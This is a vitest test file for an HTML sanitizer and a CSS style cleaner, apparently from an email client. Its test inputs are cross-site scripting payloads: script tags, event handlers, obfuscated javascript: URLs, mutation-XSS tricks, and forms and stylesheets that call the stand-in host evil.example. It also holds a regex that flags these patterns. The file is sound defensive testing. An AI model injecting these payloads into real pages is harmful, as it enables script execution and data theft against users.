import { describe, expect, test } from 'vitest'
import { safeHtml } from './html.ts'
import { cleanStyle } from './style.ts'

const HARMLESS =
  /^(?:[^<>]|<\/?[a-z0-9]+(?: (?:style|href|rel|target|title|alt|width|height|align|valign|color|bgcolor|size|face|dir|lang|border|cellpadding|cellspacing|colspan|rowspan|start|type|data-remote-src|data-cid|data-mark)="[^"<>]*")*(?: \/)?>)*$/

describe('V8, V9: hostile markup', () => {
  test.each([
    '<script>alert(1)</script>a',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)><animate onbegin=alert(1)>b</svg>',
    '<a href="java&#10;script:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a><a href=" data:text/html,x">z</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=p><button formaction=//evil.example>b</button></form>',
    '<style>@import url(//evil.example)</style><link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
    '<p style="background:url(//evil.example)">x</p><p style="color:red;background-image:u\\72l(//evil.example)">y</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<img srcset="//evil.example 1x" src="//evil.example/a.png" lowsrc=//evil.example dynsrc=//evil.example>',
    '<table background=//evil.example><td background=//evil.example>x</table><body background=//evil.example>',
    '<xmp><img src=x onerror=alert(1)></xmp><textarea></textarea><img src=x onerror=alert(1)>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<a href="https://a.example" onclick="alert(1)" target="_self" style="x:expression(alert(1))">x</a>',
    '<img data-remote-src="javascript:alert(1)" data-cid=\'"><script>\' data-quote>',
    '<video src=//evil.example><audio src=//evil.example><object data=//evil.example><embed src=//evil.example>',
    '<template><img src=x onerror=alert(1)></template><details ontoggle=alert(1) open>x</details>',
    `${'<div>'.repeat(500)}<img src=x onerror=alert(1)>`,
  ])('%s', (html) => {
    const { html: safe } = safeHtml(html)
    expect(safe).toMatch(HARMLESS)
    expect(safe).not.toMatch(
      /javascript:|url\(|expression|@import|position|<(script|svg|iframe|form|input|style|link|base|meta|object|embed|video|audio|math)/i,
    )
    expect(safe.replaceAll(/data-remote-src="[^"]*"/g, '')).not.toMatch(/evil\.example/)
  })
  test('remote pictures wait for a click; written-in ones become files', () => {
    const { html, pictures, remote } = safeHtml(
      '<img src="http://a.example/x.png?a=1&b=2"><img src="data:image/png;base64,iVBORw0KGgo="><img src="cid:a%40b">',
    )
    expect(html).toBe(
      '<img data-remote-src="http://a.example/x.png?a=1&amp;b=2" /><img data-cid="written-1@tantam" /><img data-cid="a@b" />',
    )
    expect(pictures).toMatchObject([{ mime: 'image/png', contentId: 'written-1@tantam' }])
    expect(remote).toBe(true)
  })
  test('what an unclosed svg would swallow stays', () => expect(safeHtml('<svg>đồ thị<p>Nước rò rỉ</p>').html).toContain('Nước rò rỉ'))
})

test.each([
  ['color: #333; font-weight: bold', 'color:#333;font-weight:bold'],
  ['color:rgb(1, 2, 3) !important', 'color:rgb(1, 2, 3)'],
  ['margin-left:-9999px;display:flex;float:left', 'float:left'],
  ['width:calc(100% - 1px);font-family:"Be Vietnam Pro", sans-serif', 'font-family:"Be Vietnam Pro", sans-serif'],
  ['background:url(x);color:\\72 ed', ''],
])('style %s', (given, kept) => expect(cleanStyle(given)).toBe(kept))
